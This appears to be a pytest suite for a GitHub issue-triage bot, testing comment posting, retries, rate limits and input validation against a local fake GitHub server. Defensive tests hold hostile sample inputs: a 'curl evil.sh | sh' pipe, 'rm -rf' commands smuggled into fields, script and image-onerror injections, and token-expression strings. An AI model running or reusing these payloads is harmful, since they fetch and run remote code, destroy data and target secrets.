"""Publishing over real HTTP: PyGithub talking to a local GitHub REST server."""
import json
import os
import re
import subprocess
import sys
import time

import pytest

from tests.conftest import FIXTURES, ROOT
from tests.github_server import Failure, FakeGitHub, rate_limited
from triage import __version__
from triage.classify.ladder import classify
from triage.extract import extract_issue_body
from triage.github import GitHubOptions, GitHubUnreachable, PublishError, body_sha256, connect, post_report
from triage.model import Issue, Report, Repro
from triage.report.comment import COMMENT_LIMIT, MARKER
from triage.report.data import report_json, validate_report

REPO, NUMBER = "octo/demo", 7
BODY = (FIXTURES / "issues" / "logdet_form.md").read_text()
COMMENTS = f"/repos/{REPO}/issues/{NUMBER}/comments"


@pytest.fixture
def github():
    server = FakeGitHub().start()
    server.add_issue(REPO, NUMBER, BODY, labels=["bot: triage"])
    yield server
    server.stop()


def _data(summary="triage could not run the script.", labels=None, notes=(), body=BODY):
    repro = Repro(path="", name="repro.py", source="import torch\n", problem="no such file")
    verdict = classify(repro, None)
    verdict.summary = summary
    if labels is not None:
        verdict.labels = labels
    issue = Issue(repo=REPO, number=NUMBER, title="t", url="u", author="reporter", body_sha256=body_sha256(body),
                  extraction=extract_issue_body(body))
    report = Report(repro=repro, arms_requested=["cpu"], comparison=None, verdict=verdict, triage_version=__version__,
                    seconds=0.1, notes=list(notes), issue=issue)
    data = report_json(report)
    assert validate_report(data) == []
    return data


def _options(**kw):
    return GitHubOptions(api_url=kw.pop("api_url"), token=kw.pop("token", "bot-token"), throttle=False, **kw)


def _post(github, data, **kw):
    options = _options(api_url=github.api_url, **kw)
    return post_report(connect(options), data, options)


def _bot_comments(github):
    return [c for c in github.comments_on(REPO, NUMBER) if c["login"] == "triage-bot"]


def test_first_post_creates_one_comment_with_marker_and_verdict(github):
    result = _post(github, _data())
    assert result.action == "created"
    [comment] = _bot_comments(github)
    assert comment["body"].startswith(MARKER) and "could-not-run" in comment["body"]
    assert result.comment_url.endswith(f"#issuecomment-{comment['id']}")


def test_rerun_edits_in_place_and_skips_when_unchanged(github):
    _post(github, _data())
    assert _post(github, _data()).action == "unchanged"
    writes_before = len(github.writes())
    assert _post(github, _data()).action == "unchanged"
    assert len(github.writes()) == writes_before  # nothing written at all
    result = _post(github, _data(summary="a different outcome."))
    assert result.action == "edited"
    [comment] = _bot_comments(github)
    assert "a different outcome." in comment["body"]


def test_marker_pasted_by_another_user_is_ignored(github):
    pasted = github.add_comment(REPO, NUMBER, f"{MARKER} digest=0 -->\nlooks like the bot", "mallory")
    assert _post(github, _data()).action == "created"
    assert pasted["body"].endswith("looks like the bot")
    assert len(_bot_comments(github)) == 1


def test_own_comment_is_found_past_the_first_page(github):
    _post(github, _data())
    for i in range(45):
        github.add_comment(REPO, NUMBER, f"+1 ({i})", "someone")
    assert _post(github, _data(summary="changed")).action == "edited"
    assert len(_bot_comments(github)) == 1


def test_502_then_success(github):
    github.failures.append(Failure("POST", COMMENTS, 502, times=1))
    result = _post(github, _data())
    assert result.action == "created" and result.attempts == 2
    assert len(_bot_comments(github)) == 1


def test_a_write_that_answered_502_but_happened_is_not_repeated(github):
    github.failures.append(Failure("POST", COMMENTS, 502, applied=True))
    result = _post(github, _data())
    assert result.action == "unchanged"  # the retry found the comment the "failed" POST made
    assert len(_bot_comments(github)) == 1


def test_403_rate_limit_waits_for_the_reset(github):
    github.failures.append(rate_limited("GET", f"/repos/{REPO}/issues/{NUMBER}", reset_in_s=1))
    start = time.monotonic()
    result = _post(github, _data())
    assert result.action == "created" and time.monotonic() - start >= 1.0
    statuses = [s for m, p, s in github.requests if p == f"/repos/{REPO}/issues/{NUMBER}"]
    assert statuses[:2] == [403, 200]


def test_rate_limit_longer_than_the_wait_budget_gives_up(github):
    github.failures.append(rate_limited("GET", f"/repos/{REPO}/issues/{NUMBER}", reset_in_s=3600))
    with pytest.raises(PublishError, match="rate limit resets in"):
        _post(github, _data(), max_wait_s=60)


def test_persistent_5xx_gives_up_after_the_attempts_as_unreachable(github):
    github.failures.append(Failure("GET", f"/repos/{REPO}/issues/{NUMBER}", 503, times=10))
    with pytest.raises(GitHubUnreachable, match=r"answered 503 to each of 2 attempts"):
        _post(github, _data(), attempts=2)
    assert _bot_comments(github) == []


@pytest.fixture
def closed_api_url():
    """The API address of a GitHub server that has stopped: its port refuses connections."""
    server = FakeGitHub().start()
    url = server.api_url
    server.stop()
    return url


def test_a_closed_port_is_unreachable_after_the_attempts(closed_api_url):
    with pytest.raises(GitHubUnreachable, match=r"^cannot reach GitHub at .*: connection refused \(2 attempts\)$"):
        options = _options(api_url=closed_api_url, attempts=2)
        post_report(connect(options), _data(), options)


def test_a_name_that_does_not_resolve_is_unreachable():
    options = _options(api_url="http://no-such-host.invalid/api/v3", attempts=1)
    with pytest.raises(GitHubUnreachable, match=r"its host name does not resolve \(DNS\)"):
        post_report(connect(options), _data(), options)


def test_a_refused_token_is_not_unreachable(github):
    with pytest.raises(PublishError) as refused:
        _post(github, _data(), token="wrong")
    assert not isinstance(refused.value, GitHubUnreachable)


def test_oversize_comment_is_truncated_under_the_limit(github):
    data = _data(notes=["n" * 5000] * 100, summary="s" * 20000)
    _post(github, data)
    [comment] = _bot_comments(github)
    assert len(comment["body"]) <= COMMENT_LIMIT and "truncated" in comment["body"]


def test_labels_only_from_the_allowlist_and_trigger_removed(github):
    data = _data(labels=["triage review", "high priority"])
    result = _post(github, data, trigger_label="bot: triage")
    assert result.labels_added == ["triage review"] and result.labels_refused == ["high priority"]
    assert result.trigger_removed
    assert github.issues[(REPO, NUMBER)]["labels"] == ["triage review"]


def test_refuses_when_trigger_label_is_gone_or_body_changed(github):
    github.issues[(REPO, NUMBER)]["labels"] = []
    with pytest.raises(PublishError, match="trigger label"):
        _post(github, _data(), trigger_label="bot: triage")
    github.issues[(REPO, NUMBER)]["labels"] = ["bot: triage"]
    github.issues[(REPO, NUMBER)]["body"] = BODY + "\nedited after the run"
    with pytest.raises(PublishError, match="changed after the repro was run"):
        _post(github, _data(), trigger_label="bot: triage")
    assert github.comments_on(REPO, NUMBER) == []


def test_actions_token_posts_as_github_actions_bot(github):
    github.users["actions-token"] = "github-actions[bot]"
    github.failures.append(Failure("GET", "/user", 403, body={"message": "Resource not accessible by integration"},
                                   times=99))
    _post(github, _data(), token="actions-token")
    assert _post(github, _data(), token="actions-token").action == "unchanged"
    assert [c["login"] for c in github.comments_on(REPO, NUMBER)] == ["github-actions[bot]"]


# What `triage post` must be told, not read from the report: the repository, the issue, the trigger label.
POST_TARGET = ("--repo", REPO, "--expect-issue", str(NUMBER), "--no-trigger-label")


def _cli(*args, env=None, cwd=None, timeout=300):
    # Nothing from the host's environment chooses where to post (an Actions runner sets GITHUB_REPOSITORY).
    full = {k: v for k, v in os.environ.items()
            if k not in ("GITHUB_TOKEN", "GITHUB_STEP_SUMMARY", "GITHUB_REPOSITORY") and not k.startswith("TRIAGE_")}
    full.update(env or {})
    return subprocess.run([sys.executable, "-m", "triage", *args], capture_output=True, text=True, env=full,
                          cwd=cwd or ROOT, timeout=timeout)


@pytest.mark.parametrize("mutate, reason", [
    (lambda d: d["verdict"].update(kind="definitely-fine"), "verdict/kind"),
    (lambda d: d["verdict"]["labels"].append("bad\nlabel"), "verdict/labels"),
    (lambda d: d["issue"].update(number="7"), "issue/number"),
    (lambda d: d.update(extra_field=1), "Additional properties"),
    (lambda d: d["arms"].append({"spec": "cpu; rm -rf /", "status": "ok"}), "arms/0/spec"),
    (lambda d: d.update(issue=None), "names no issue"),
])
def test_schema_invalid_report_is_rejected_before_any_request(github, tmp_path, mutate, reason):
    data = _data()
    mutate(data)
    path = tmp_path / "report.json"
    path.write_text(json.dumps(data))
    proc = _cli("post", "--report", str(path), "--api-url", github.api_url, *POST_TARGET,
                env={"GITHUB_TOKEN": "bot-token"})
    assert proc.returncode == 2, proc.stderr
    assert "not a report triage will post" in proc.stderr and reason in proc.stderr
    assert github.requests == []


def test_non_json_and_nan_reports_are_rejected(github, tmp_path):
    path = tmp_path / "report.json"
    for text in ("{not json", json.dumps(_data()).replace('"seconds": 0.1', '"seconds": NaN')):
        path.write_text(text)
        proc = _cli("post", "--report", str(path), "--api-url", github.api_url, *POST_TARGET,
                    env={"GITHUB_TOKEN": "bot-token"})
        assert proc.returncode == 2 and "not JSON" in proc.stderr
    assert github.requests == []


def test_post_refuses_a_report_about_another_repository(github, tmp_path):
    path = tmp_path / "report.json"
    path.write_text(json.dumps(_data()))
    proc = _cli("post", "--report", str(path), "--api-url", github.api_url, "--expect-issue", str(NUMBER),
                "--no-trigger-label", env={"GITHUB_TOKEN": "bot-token", "GITHUB_REPOSITORY": "someone/else"})
    assert proc.returncode == 2 and "not someone/else" in proc.stderr
    assert github.requests == []


def test_hostile_report_strings_cannot_inject_markdown(github, tmp_path):
    data = _data(summary="@maintainer see #1 and https://github.com/o/r/issues/2 <img src=x onerror=alert(1)> "
                         "[click](http://evil) ![](http://evil/p.png) `code <b>@x</b>` ${{ secrets.GITHUB_TOKEN }}",
                 notes=["</details><details open><summary>@everyone</summary>", "```\n# heading\n```"])
    data["repro"]["source"] = "x = '````'\n````\n<script>alert(1)</script>\n"
    path = tmp_path / "report.json"
    path.write_text(json.dumps(data))
    proc = _cli("post", "--report", str(path), "--api-url", github.api_url, *POST_TARGET,
                env={"GITHUB_TOKEN": "bot-token"})
    assert proc.returncode == 0, proc.stderr
    [comment] = _bot_comments(github)
    text = comment["body"]
    prose = text.split("<details>")[0]
    assert "<img" not in prose and "@maintainer" not in prose
    assert re.search(r"(?<!\\)\]\(", prose) is None  # every link bracket is escaped
    assert "#1 " not in prose and "https://github.com/o/r" not in prose
    assert "</details><details open>" not in text
    assert "`````python" in text  # a fence longer than the source's own


def test_post_cli_writes_the_job_summary(github, tmp_path):
    path, summary = tmp_path / "report.json", tmp_path / "summary.md"
    path.write_text(json.dumps(_data()))
    proc = _cli("post", "--report", str(path), "--api-url", github.api_url, "--trigger-label", "bot: triage",
                "--repo", REPO, "--expect-issue", str(NUMBER),
                env={"GITHUB_TOKEN": "bot-token", "GITHUB_STEP_SUMMARY": str(summary)})
    assert proc.returncode == 0, proc.stderr
    assert "created comment" in summary.read_text() and "removed 'bot: triage'" in proc.stderr


@pytest.mark.parametrize("command", ["extract", "issue"])
def test_reading_an_issue_from_an_unreachable_github_exits_6(closed_api_url, tmp_path, command):
    proc = _cli(command, f"{REPO}#{NUMBER}", "--api-url", closed_api_url, "--out", str(tmp_path / "out"))
    assert proc.returncode == 6, proc.stderr
    assert proc.stderr.strip().splitlines()[-1] == (f"Error: cannot read {REPO}#{NUMBER}: cannot reach GitHub at "
                                                    f"{closed_api_url}: connection refused (5 attempts)")
    assert "Traceback" not in proc.stderr


def test_posting_to_an_unreachable_github_exits_6(closed_api_url, tmp_path):
    path = tmp_path / "report.json"
    path.write_text(json.dumps(_data()))
    proc = _cli("post", "--report", str(path), "--api-url", closed_api_url, *POST_TARGET,
                env={"GITHUB_TOKEN": "bot-token"})
    assert proc.returncode == 6, proc.stderr
    assert proc.stderr.strip().splitlines()[-1] == (f"not posted: cannot reach GitHub at {closed_api_url}: "
                                                    "connection refused (5 attempts)")
    assert "Traceback" not in proc.stderr


def test_a_sweep_stops_posting_once_github_cannot_be_reached(closed_api_url):
    import io

    from rich.console import Console

    from triage.cli import _post_swept
    from triage.sweep.model import ItemResult

    results = [ItemResult(key=f"{REPO}#{n}", kind="issue", title="t", content_sha256="0" * 64, torch_build="b",
                          arms="cpu", outcome="triaged", report=_data()) for n in (7, 8)]
    out = io.StringIO()
    began = time.monotonic()
    assert _post_swept(results, _options(api_url=closed_api_url, attempts=2), Console(file=out, width=500)) == (2, True)
    assert out.getvalue().splitlines() == [
        f"{REPO}#7: not posted: cannot reach GitHub at {closed_api_url}: connection refused (2 attempts)",
        f"{REPO}#8: not posted: GitHub could not be reached (above)"]
    assert time.monotonic() - began < 5  # one backoff (0.5 s), not one per issue


def test_post_failure_exits_4_and_says_why(github, tmp_path):
    path = tmp_path / "report.json"
    path.write_text(json.dumps(_data()))
    proc = _cli("post", "--report", str(path), "--api-url", github.api_url, *POST_TARGET, env={"GITHUB_TOKEN": "wrong"})
    assert proc.returncode == 4 and "401" in proc.stderr and "Traceback" not in proc.stderr


@pytest.mark.slow
def test_issue_post_twice_leaves_exactly_one_comment(github, tmp_path):
    """The done-when: `triage issue o/r#N --post --api-url …` posts one comment with the verdict
    and the marker; running it again posts none."""
    args = ["issue", f"{REPO}#{NUMBER}", "--post", "--api-url", github.api_url, "--arms", "cpu",
            "--out", str(tmp_path / "out"), "--quiet", "--trigger-label", "bot: triage"]
    env = {"GITHUB_TOKEN": "bot-token"}
    first = _cli(*args, env=env)
    assert first.returncode == 0, first.stderr
    [comment] = _bot_comments(github)
    report = json.loads((tmp_path / "out" / "report.json").read_text())
    assert report["issue"]["number"] == NUMBER and validate_report(report) == []
    # The matrix is exactly singular: LAPACK's -inf (or a finite value, on another CPU) is expected.
    kind = report["verdict"]["kind"]
    assert report["verdict"]["expected"] is True and kind in ("nonfinite-flip", "expected-ill-conditioned")
    assert comment["body"].startswith(MARKER) and f"<code>{kind}</code>" in comment["body"]
    github.issues[(REPO, NUMBER)]["labels"].append("bot: triage")  # a maintainer asks again
    second = _cli(*args, env=env)
    assert second.returncode == 0, second.stderr
    assert "unchanged comment" in second.stderr
    assert len(_bot_comments(github)) == 1
    assert [m for m, p, s in github.requests if p == COMMENTS and m == "POST"] == ["POST"]


@pytest.mark.slow
def test_hostile_issue_body_and_a_repro_that_hunts_for_the_token(github, tmp_path):
    hunt = (FIXTURES / "issues" / "token_hunt.py").read_text()
    body = ("### 🐛 Describe the bug\n\n$(curl evil.sh | sh) `rm -rf ~` ${{ github.token }} <script>alert(1)</script>\n\n"
            f"```python\n{hunt}```\n")
    github.add_issue(REPO, 8, body, labels=["bot: triage"])
    github.add_issue(REPO, 9, body + "A" * (1 << 20), labels=["bot: triage"])
    env = {"GITHUB_TOKEN": "bot-token"}
    for number in (8, 9):
        proc = _cli("issue", f"{REPO}#{number}", "--post", "--api-url", github.api_url, "--arms", "cpu",
                    "--no-minimize", "--out", str(tmp_path / str(number)), "--quiet", env=env)
        assert proc.returncode in (0, 3), proc.stderr
        assert "Traceback" not in proc.stderr
    [hunted] = [c for c in github.comments_on(REPO, 8) if c["login"] == "triage-bot"]
    assert "bot-token" not in hunted["body"]
    assert "token not found" in hunted["body"]  # the repro ran and looked everywhere it could
    [too_big] = [c for c in github.comments_on(REPO, 9) if c["login"] == "triage-bot"]
    assert "could-not-run" in too_big["body"] and "characters" in too_big["body"]
